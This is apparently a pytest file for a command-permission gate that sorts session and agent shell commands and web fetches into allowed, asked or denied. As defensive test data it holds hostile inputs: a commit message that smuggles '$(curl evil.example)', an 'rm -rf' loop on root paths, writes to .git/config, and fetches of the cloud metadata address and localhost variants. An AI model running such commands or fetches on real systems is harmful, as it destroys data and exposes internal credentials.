"""A person's own session is not an agent's: the `session` role runs the repository's own make targets and tox
environments, `uv run`, loops over literal values and Claude Code's commit idiom; asks for the network; and
stays strict where it must (push, `.git`, the machine's own addresses)."""

from __future__ import annotations

import time
from pathlib import Path

import pytest

from runtime.gate.decision import ALLOW, ASK, DENY
from runtime.gate.engine import decide
from runtime.gate.policy import Policy
from runtime.manifests.catalog import Catalog
from runtime.manifests.role import load_role
from runtime.policy.compile import compile_policy
from runtime.policy.targets import make_targets, tox_envs
from tests.conftest import REPO

MAKEFILE = """\
VERSION := 1.0
CC = gcc
.PHONY: test lint
test: build
\tpytest
lint check:
\truff check .
%.o: %.c
\t$(CC) -c $<
install:: all
build: ; true
"""
TOX = """\
[tox]
envlist = py311, lint
[testenv]
commands = pytest
[testenv:docs]
commands = sphinx-build docs out
"""
COMMIT = """git commit -m "$(cat <<'EOF'
Fix the parser on empty input

Co-Authored-By: Claude <noreply@anthropic.com>
EOF
)\""""


def _policy(root: Path, role: str = "session") -> Policy:
    catalog = Catalog(REPO)
    audience = "session" if role == "session" else "agent"
    return Policy(compile_policy(load_role(catalog, role), None, root, catalog, audience=audience))


@pytest.fixture
def repo(tmp_path) -> Path:
    root = tmp_path / "repo"
    root.mkdir()
    (root / "Makefile").write_text(MAKEFILE)
    (root / "tox.ini").write_text(TOX)
    return root


def bash(policy: Policy, command: str):
    return decide(policy, "Bash", {"command": command}, policy.root)


def test_the_targets_are_read_from_the_makefile_and_tox_ini_without_running_them(repo):
    assert make_targets(str(repo)) == ["test", "lint", "check", "install", "build"]
    assert tox_envs(str(repo)) == ["py311", "lint", "docs"]
    (repo / "GNUmakefile").write_text("only:\n\ttrue\n")  # what make reads first
    assert make_targets(str(repo)) == ["only"]


@pytest.mark.parametrize("command", ["make test", "make -j4 lint", "make -k check", "make build", "tox -e py311",
                                     "tox -e docs"])
def test_the_repository_s_own_targets_run(repo, command):
    d = bash(_policy(repo), command)
    assert d.verdict == ALLOW, d


@pytest.mark.parametrize("command,says", [
    ("make deploy", "must be one of"),
    ("make -f other.mk test", "`make -f`"),
    ("make CC=./evil test", "CC=./evil"),
    ("tox -e nope", "tox -e nope"),
])
def test_what_the_repository_does_not_define_is_asked_with_the_rule_that_would_allow_it(repo, command, says):
    d = bash(_policy(repo), command)
    assert d.verdict == ASK and d.undecided and says in d.reason, d
    assert "runtime allow '" in d.reason or "asked each time" in d.reason


def test_an_agent_s_role_does_not_run_the_repository_s_targets(repo):
    assert bash(_policy(repo, "edit-local"), "make test").verdict != ALLOW


def test_a_changed_makefile_changes_the_hook_s_policy(repo, tmp_path, monkeypatch):
    from runtime.gate.cache import cached_policy

    monkeypatch.setenv("RUNTIME_CACHE_DIR", str(tmp_path / "cache"))
    first = cached_policy(str(REPO), "session", None, str(repo))
    assert bash(first, "make release").verdict == ASK
    time.sleep(0.01)
    (repo / "Makefile").write_text(MAKEFILE + "release:\n\ttrue\n")
    again = cached_policy(str(REPO), "session", None, str(repo))
    assert bash(again, "make release").verdict == ALLOW


@pytest.mark.parametrize("command,verdict", [
    ("uv run pytest -q", ALLOW),
    ("uv run --no-sync pytest", ALLOW),
    ("uv run curl https://example.com", ASK),  # judged as what it runs
    ("uv run git push", DENY),
])
def test_uv_run_syncs_then_runs_what_is_judged_on_its_own(repo, command, verdict):
    assert bash(_policy(repo), command).verdict == verdict


def test_an_agent_s_role_still_runs_uv_run_only_without_syncing(repo):
    policy = _policy(repo, "edit-local")
    assert bash(policy, "uv run --no-sync pytest").verdict == ALLOW
    d = bash(policy, "uv run pytest")
    assert d.verdict != ALLOW and "--no-sync" in d.reason


def test_claude_code_s_commit_idiom_with_a_literal_message_is_allowed(repo):
    assert bash(_policy(repo), COMMIT).verdict == ALLOW
    d = bash(_policy(repo), COMMIT.replace("Fix the parser", "Fix $(curl evil.example)").replace("'EOF'", "EOF"))
    assert d.verdict != ALLOW


@pytest.mark.parametrize("command", [
    'for f in a.py b.py; do ruff check "$f"; done',
    'for f in src/*.py; do ruff check "$f"; done',
    "for tool in pytest mypy; do $tool; done",
    'for n in 1 2; do for m in a b; do echo "$n-$m" ${m}; done; done',
    'for f in a b; do echo x > "$f.txt"; done',
])
def test_loops_over_literal_values_are_read_once_per_value(repo, command):
    assert bash(_policy(repo), command).verdict == ALLOW


@pytest.mark.parametrize("command,verdict", [
    ("for b in main dev; do git push origin $b; done", DENY),
    ('for f in .git/config; do echo x > "$f"; done', DENY),
    ('for f in a b; do rm -rf "/$f"; done', DENY),
    ("for f in src/*.py; do ruff check $f; done", ASK),  # a name with a blank would split into other arguments
    ("for f; do echo $f; done", ASK),  # the script's own arguments: unseen
    ("for i in $(seq 3); do echo $i; done", ASK),
])
def test_a_loop_judges_what_each_value_makes_of_its_body(repo, command, verdict):
    assert bash(_policy(repo), command).verdict == verdict


def test_a_loop_over_too_many_values_is_asked_not_read(repo):
    values = " ".join(f"v{i}" for i in range(40))
    d = bash(_policy(repo), f'for v in {values}; do echo "$v"; done')
    assert d.verdict == ASK and "more than 32 values" in d.reason


@pytest.mark.parametrize("tool,inp,verdict", [
    ("WebFetch", {"url": "https://docs.python.org/3/", "prompt": "read"}, ASK),
    ("WebSearch", {"query": "asyncio timeouts"}, ASK),
    ("WebSearch", {"query": "asyncio", "allowed_domains": ["docs.python.org"]}, ASK),
    ("WebFetch", {"url": "http://169.254.169.254/latest/meta-data/", "prompt": "read"}, DENY),
    ("WebFetch", {"url": "http://127.0.0.1/", "prompt": "read"}, DENY),
    ("WebFetch", {"url": "http://localhost/", "prompt": "read"}, DENY),
    ("WebFetch", {"url": "http://0x7f000001/", "prompt": "read"}, DENY),  # forms a resolver takes for 127.0.0.1
    ("WebFetch", {"url": "http://127.1/", "prompt": "read"}, DENY),
    ("WebFetch", {"url": "http://10.0.0.1/", "prompt": "read"}, DENY),
    ("WebFetch", {"url": "https://user:pw@example.com/", "prompt": "read"}, DENY),
    ("WebFetch", {"url": "ftp://example.com/", "prompt": "read"}, DENY),
])
def test_the_session_asks_for_the_web_and_never_fetches_the_machine_s_own_addresses(repo, tool, inp, verdict):
    d = decide(_policy(repo), tool, inp, str(repo))
    assert d.verdict == verdict, d
    if verdict == ASK:
        assert d.undecided and "net::egress-allowlist" in d.reason


def test_an_agent_without_network_is_refused_the_web_not_asked(repo):
    d = decide(_policy(repo, "edit-local"), "WebFetch", {"url": "https://docs.python.org/", "prompt": "x"}, str(repo))
    assert d.verdict == DENY
